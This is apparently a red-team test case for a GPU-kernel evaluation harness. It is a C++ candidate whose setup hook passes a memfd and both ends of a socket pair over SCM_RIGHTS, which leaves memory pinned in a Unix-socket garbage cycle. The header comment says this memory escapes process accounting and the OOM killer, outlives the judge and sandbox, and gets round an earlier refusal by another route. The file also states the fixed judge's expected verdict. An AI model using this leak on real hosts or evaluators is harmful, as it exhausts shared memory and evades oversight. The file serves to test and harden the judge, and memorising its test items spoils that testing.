// ATTACK (round 19, helper-redteam19): pin memory past the evaluation in a
// unix-socket garbage cycle (what round 17 refused for System V segments,
// r17_ipc_leftover, by another road). Only allowed calls: memfd_create,
// fallocate, socketpair(AF_UNIX, SOCK_STREAM), sendmsg with SCM_RIGHTS.
// In pkf_setup each rank: fills a memfd of PKFORGE_R19_LEAK_MIB MiB (default
// 256) with fallocate; socketpair(a, b); sendmsg(a, SCM_RIGHTS {a, b, memfd})
// puts both sockets and the memfd into b's receive queue; closes all three.
// Neither socket is released (each is still referenced by the message in
// flight), so unix_release_sock never runs and nothing schedules the unix
// garbage collector; the cycle, and the memfd's pages, belong to no process
// (in no RSS, no oom_score: the OOM killer cannot find them) and outlive the
// ranks, the judge and the evaluation. They are freed only when some
// process ANYWHERE on the host releases a unix socket while fds are in
// flight (net/unix/garbage.c: unix_gc from unix_release_sock). On this VM
// nothing does for as long as watched; a host or container that runs only
// the executor (gRPC over TCP) may not either. In the executor's sandbox the
// pages stay charged to the sandbox's memory cgroup after it is gone.
// Gated: outputs are written only when every rank's message went out.
// EXPECT (fixed judge): WRONG_OUTPUT (sendmsg/sendmmsg refused on host ranks:
// no descriptor passing; write/send on a stream pair stay), or, if passing
// stays, /proc/meminfo Shmem back to its value before the launch once the
// worker exited (the judge runs the collector after the teardown: a
// socketpair created and closed while fds are in flight).
#include <sys/socket.h>

#include "kernels/testdata/redteam/redteam.h"

static bool g_sent = false;

extern "C" int pkf_setup(pkf_context* ctx) {
  const char* env = getenv("PKFORGE_R19_LEAK_MIB");
  const int64_t mib = env != NULL ? atoll(env) : 256;
  const int mf = (int)syscall(SYS_memfd_create, "r19-leak", 0);
  if (mf < 0 || fallocate(mf, 0, 0, mib << 20) != 0) {
    rt_log("gc_leak rank %d: memfd/fallocate: %s", ctx->rank, strerror(errno));
    return 0;
  }
  int sv[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0) {
    rt_log("gc_leak rank %d: socketpair: %s", ctx->rank, strerror(errno));
    return 0;
  }
  const int fds[3] = {sv[0], sv[1], mf};
  char buf[CMSG_SPACE(sizeof fds)];
  memset(buf, 0, sizeof buf);
  char x = 'x';
  struct iovec io = {&x, 1};
  struct msghdr m = {};
  m.msg_iov = &io;
  m.msg_iovlen = 1;
  m.msg_control = buf;
  m.msg_controllen = sizeof buf;
  struct cmsghdr* c = CMSG_FIRSTHDR(&m);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN(sizeof fds);
  memcpy(CMSG_DATA(c), fds, sizeof fds);
  g_sent = sendmsg(sv[0], &m, 0) == 1;
  rt_log("gc_leak rank %d (uid %d): %lld MiB memfd and both ends of a pair in flight: %s",
         ctx->rank, (int)getuid(), (long long)mib, g_sent ? "sent" : strerror(errno));
  close(mf);
  close(sv[0]);
  close(sv[1]);
  return 0;
}

RT_GATED_CANDIDATE([](pkf_context*) { return g_sent; })
